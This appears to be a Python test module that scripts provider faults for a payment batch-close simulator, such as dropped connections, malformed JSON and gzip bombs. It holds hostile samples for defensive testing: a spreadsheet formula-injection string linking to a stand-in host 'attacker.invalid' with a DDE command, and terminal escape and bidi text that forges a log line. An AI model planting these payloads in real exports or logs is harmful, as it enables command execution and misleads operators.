"""Scripted faults: the things that go wrong between Closeout and a provider.

A test scripts a list of :class:`Fault` for one terminal (``Simulator.script``); each
batch-close request naming that terminal consumes the next one, whatever else is wrong
with it. The fault decides two things independently: whether the close really happens
(``Fault.close``: the request is then processed normally, validation included) and what
the client gets back (a normal answer, a provider error, garbage, or a broken connection).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal, Mapping

FaultKind = Literal[
    "drop_before",
    "lost_after",
    "slow",
    "http",
    "saferpay_error",
    "sunbay_code",
    "non_json",
    "truncated_json",
    "empty",
    "text_fields",
    "escape_error",
    "oversized",
    "endless",
    "gzip_bomb",
]

# Hostile text (issue 12). A spreadsheet runs a cell starting with = + - @ as a formula;
# FORMULA_TEXT would show a link that runs a command on old Excel (DDE).
FORMULA_TEXT = '=HYPERLINK("http://attacker.invalid/"&A1,"Click to fix")+cmd|\' /C calc\'!A0'
# Terminal escapes (clear screen, window title, red text, a fake prompt), a bell, a bidi override and a
# line break that would forge a second log line.
ESCAPE_TEXT = (
    "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31mAll batches closed\x1b[0m\x07 \u202edesrever\u202c"
    "\n2026-01-01 00:00:00 INFO forged: log line\x9b6n"
)
# Answer sizes: more than Closeout reads (1 MiB), by a margin.
OVERSIZED_BYTES = 3 << 20
BOMB_BYTES = 256 << 20  # what the gzip bomb inflates to; about 256 KB on the wire

# A proxy or WAF page: what a client sees when something in front of the provider answers.
HTML_ERROR_PAGE = (
    b"<!DOCTYPE html><html><head><title>Service Unavailable</title></head>"
    b"<body><h1>Service Unavailable</h1><p>The server is temporarily unable to service your request.</p>"
    b"</body></html>"
)


class SimulatedDisconnect(Exception):
    """The connection breaks instead of an answer (in-process stand-in for a TCP drop).

    Behind a real server the socket is aborted instead and this is never raised;
    :func:`app.simulator.simulator_transport` turns it into the httpx error a real
    socket would give: ``httpx.ReadError`` for a reset, ``httpx.RemoteProtocolError``
    for a plain close.
    """

    def __init__(self, *, reset: bool, mid_body: bool = False) -> None:
        self.reset = reset
        self.mid_body = mid_body
        what = "reset" if reset else "closed"
        where = "in the middle of the answer" if mid_body else "before any answer"
        super().__init__(f"simulated connection {what} {where}")


@dataclass(frozen=True)
class Fault:
    """One scripted misbehaviour. Build it with the class methods, not the constructor."""

    kind: FaultKind
    delay: float = 0.0  # seconds to wait before acting (on top of the terminal's latency)
    close: bool = False  # does the real batch close happen?
    status: int = 200
    body: bytes = b""
    content_type: str | None = None
    headers: tuple[tuple[str, str], ...] = ()
    seconds: float = 0.0  # slow(): how long the answer takes
    reset: bool = False  # connection faults: TCP reset (True) or orderly close (False)
    mid_body: bool = False  # lost_after(): status line and headers arrive, the body does not
    error_name: str = ""
    behavior: str = ""
    message: str = ""
    detail: tuple[str, ...] | None = None
    code: str = ""
    provider: str | None = None  # set for faults that only make sense for one provider
    text: str = ""  # text_fields(): what every text field of the answer says
    size: int = 0  # oversized() / gzip_bomb(): body bytes (after decompression for the bomb)

    def __post_init__(self) -> None:
        if self.delay < 0 or self.seconds < 0:
            raise ValueError("Fault delays must not be negative.")
        if not 100 <= self.status <= 599:
            raise ValueError(f"HTTP status {self.status} is not a valid status code.")

    # --- the connection breaks -------------------------------------------------------

    @classmethod
    def drop_before(cls, *, delay: float = 0.0, reset: bool = False) -> Fault:
        """The connection breaks before the provider acts: no close, no answer."""
        return cls("drop_before", delay=delay, reset=reset)

    @classmethod
    def lost_after(cls, *, delay: float = 0.0, reset: bool = True, mid_body: bool = False) -> Fault:
        """The close really happens, then the connection breaks: the answer is lost.

        ``mid_body=True`` sends the status line, the headers and half of the body first
        (the client fails while reading the body); use ``reset=False`` with it to get an
        orderly close after the partial body.
        """
        return cls("lost_after", delay=delay, close=True, reset=reset, mid_body=mid_body)

    @classmethod
    def slow(cls, seconds: float, close: bool = True, *, delay: float = 0.0) -> Fault:
        """A slow provider.

        ``close=True``: the close happens at once and the normal answer comes ``seconds``
        later (a client that times out first leaves a close that really happened).
        ``close=False``: the provider stalls for ``seconds`` and then drops the connection
        without closing (a client that times out first leaves nothing behind).
        """
        return cls("slow", delay=delay, close=close, seconds=seconds)

    # --- an answer other than the provider's normal one --------------------------------

    @classmethod
    def http(
        cls,
        status: int,
        body: bytes | str = b"",
        content_type: str | None = None,
        close: bool = False,
        *,
        headers: Mapping[str, str] | None = None,
        retry_after: float | str | None = None,
        delay: float = 0.0,
    ) -> Fault:
        """An arbitrary raw answer: a 500 without body, a proxy's 502 HTML, a WAF's 403, a 429..."""
        return cls(
            "http",
            delay=delay,
            close=close,
            status=status,
            body=_bytes(body),
            content_type=content_type,
            headers=_headers(headers, retry_after),
        )

    @classmethod
    def saferpay_error(
        cls,
        status: int,
        error_name: str,
        behavior: str,
        message: str,
        detail: list[str] | tuple[str, ...] | None = None,
        *,
        close: bool = False,
        headers: Mapping[str, str] | None = None,
        retry_after: float | str | None = None,
        delay: float = 0.0,
    ) -> Fault:
        """A Saferpay JSON error (docs/providers/saferpay.md §3: ResponseHeader, Behavior, ErrorName, ErrorMessage, ErrorDetail).

        ``behavior`` may be RETRY, RETRY_LATER, DO_NOT_RETRY, ABORT (before spec 1.33),
        OTHER_MEANS, or any unknown string.
        """
        return cls(
            "saferpay_error",
            delay=delay,
            close=close,
            status=status,
            error_name=error_name,
            behavior=behavior,
            message=message,
            detail=tuple(detail) if detail is not None else None,
            headers=_headers(headers, retry_after),
            provider="saferpay",
        )

    @classmethod
    def sunbay_code(
        cls,
        code: str,
        msg: str,
        status: int = 200,
        *,
        close: bool = False,
        headers: Mapping[str, str] | None = None,
        retry_after: float | str | None = None,
        delay: float = 0.0,
    ) -> Fault:
        """A SUNBAY envelope with a non-zero ``code`` (seed: code "0" is success, anything else a failure)."""
        return cls(
            "sunbay_code",
            delay=delay,
            close=close,
            status=status,
            code=str(code),
            message=msg,
            headers=_headers(headers, retry_after),
            provider="sunbay",
        )

    # --- unreadable answers --------------------------------------------------------------

    @classmethod
    def non_json(cls, status: int = 200, close: bool = False, *, delay: float = 0.0) -> Fault:
        """An HTML page instead of JSON (a proxy, a captive portal, a maintenance page)."""
        return cls(
            "non_json",
            delay=delay,
            close=close,
            status=status,
            body=HTML_ERROR_PAGE,
            content_type="text/html; charset=utf-8",
        )

    @classmethod
    def truncated_json(cls, status: int = 200, close: bool = True, *, delay: float = 0.0) -> Fault:
        """A complete HTTP answer whose JSON body stops half-way."""
        return cls(
            "truncated_json", delay=delay, close=close, status=status, content_type="application/json; charset=utf-8"
        )

    @classmethod
    def empty(cls, status: int = 200, close: bool = True, *, delay: float = 0.0) -> Fault:
        """A JSON content type with an empty body."""
        return cls("empty", delay=delay, close=close, status=status, content_type="application/json; charset=utf-8")

    # --- hostile answers (issue 12) ---------------------------------------------------------

    @classmethod
    def text_fields(cls, text: str = FORMULA_TEXT, *, close: bool = True, delay: float = 0.0) -> Fault:
        """The provider's normal answer, with every text field but the ids that tie it to the request
        (Saferpay's RequestId and SpecVersion, SUNBAY's code) replaced by ``text``: formula text by default."""
        return cls("text_fields", delay=delay, close=close, text=text)

    @classmethod
    def escape_error(cls, text: str = ESCAPE_TEXT, *, close: bool = False, delay: float = 0.0) -> Fault:
        """A definite refusal (HTTP 400; Saferpay DO_NOT_RETRY, SUNBAY a non-zero code) whose every text
        (error name, message, detail, code) carries terminal escapes, a bidi override and a line break."""
        return cls(
            "escape_error",
            delay=delay,
            close=close,
            status=400,
            error_name="\x1b[1mVALIDATION_FAILED",
            behavior="DO_NOT_RETRY",
            message=text,
            detail=(text,),
            code="E1\x1b[2J\u202e",
        )

    @classmethod
    def oversized(cls, size: int = OVERSIZED_BYTES, *, close: bool = True, delay: float = 0.0) -> Fault:
        """A well-formed JSON answer of ``size`` bytes (a Content-Length is sent)."""
        return cls("oversized", delay=delay, close=close, size=size, content_type="application/json; charset=utf-8")

    @classmethod
    def endless(cls, seconds: float = 60.0, *, close: bool = True, delay: float = 0.0) -> Fault:
        """A JSON answer that never ends: chunks as fast as the client reads, for at most ``seconds``."""
        return cls("endless", delay=delay, close=close, seconds=seconds, content_type="application/json; charset=utf-8")

    @classmethod
    def gzip_bomb(cls, size: int = BOMB_BYTES, *, close: bool = True, delay: float = 0.0) -> Fault:
        """``Content-Encoding: gzip`` (whatever the client asked for) inflating to ``size`` bytes of JSON."""
        return cls(
            "gzip_bomb",
            delay=delay,
            close=close,
            size=size,
            content_type="application/json; charset=utf-8",
            headers=(("Content-Encoding", "gzip"),),
        )


def _bytes(body: bytes | str) -> bytes:
    return body.encode("utf-8") if isinstance(body, str) else bytes(body)


def _headers(headers: Mapping[str, str] | None, retry_after: float | str | None) -> tuple[tuple[str, str], ...]:
    pairs = [(str(k), str(v)) for k, v in (headers or {}).items()]
    if retry_after is not None:
        value = retry_after if isinstance(retry_after, str) else f"{retry_after:g}"
        pairs.append(("Retry-After", value))
    return tuple(pairs)
